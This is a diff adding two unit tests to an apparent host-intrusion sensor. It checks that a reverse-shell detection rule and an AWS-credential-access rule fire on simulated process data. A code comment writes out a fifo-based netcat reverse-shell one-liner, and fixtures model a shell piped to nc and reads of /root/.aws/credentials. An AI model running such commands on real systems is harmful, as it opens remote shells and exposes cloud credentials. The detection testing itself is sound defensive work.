@@ -286,5 +286,61 @@ TEST_F(PipelineTest, QueueAndWorkerThread) {
   EXPECT_GE(Counter("observations"), 3);
 }
 
+TEST_F(PipelineTest, ShellIsReevaluatedWhenItsPipeRelayConnectsLater) {
+  MakePipeline();
+  // mkfifo f; cat f | sh -i 2>&1 | (sleep; nc host port > f): the shell first.
+  proc_.Add({60, 1, "cat", {"cat", "f"}, "/usr/bin/cat", 80, {{1, "pipe:[900]"}}, {}});
+  proc_.Add({61,
+             1,
+             "sh",
+             {"sh", "-i"},
+             "/usr/bin/dash",
+             81,
+             {{0, "pipe:[900]"}, {1, "pipe:[901]"}, {2, "pipe:[901]"}},
+             {}});
+  Scan();
+  EXPECT_TRUE(out_.Rule("reverse_shell").empty());
+  // The relay connects after the shell was evaluated.
+  proc_.Add({62,
+             1,
+             "nc",
+             {"nc", "127.0.0.1", "4444"},
+             "/usr/bin/nc",
+             82,
+             {{0, "pipe:[901]"}, {1, "/tmp/f"}, {3, "socket:[902]"}},
+             {TcpLine("0100007F:9C41", "0100007F:115C", "01", 902)}});
+  Scan();
+  auto rs = out_.Rule("reverse_shell");
+  ASSERT_EQ(rs.size(), 1u);
+  EXPECT_EQ(rs[0].process->pid, 61);
+  ASSERT_TRUE(rs[0].connection);
+  EXPECT_EQ(rs[0].connection->remote, "127.0.0.1:4444");
+  Scan();  // reported once
+  EXPECT_EQ(out_.Rule("reverse_shell").size(), 1u);
+}
+
+TEST_F(PipelineTest, CommandLineOnlyMatchesAreMarkedLowConfidence) {
+  MakePipeline();
+  proc_.Add({70, 1, "awk", {"awk", "1", "/root/.aws/credentials"}, "/usr/bin/awk", 90, {}, {}});
+  proc_.Add({71,
+             1,
+             "python3",
+             {"python3", "x.py"},
+             "/usr/bin/python3",
+             91,
+             {{3, "/root/.aws/credentials"}},
+             {}});
+  Scan();
+  auto ev = out_.Rule("aws_credential_discovery");
+  ASSERT_EQ(ev.size(), 2u);
+  for (const auto& e : ev) {
+    if (e.process->pid == 70) {
+      EXPECT_EQ(e.fields.at("confidence"), "low");
+    } else {
+      EXPECT_EQ(e.fields.count("confidence"), 0u);  // the open was seen
+    }
+  }
+}
+
 }  // namespace
 }  // namespace sandwatch::sensor
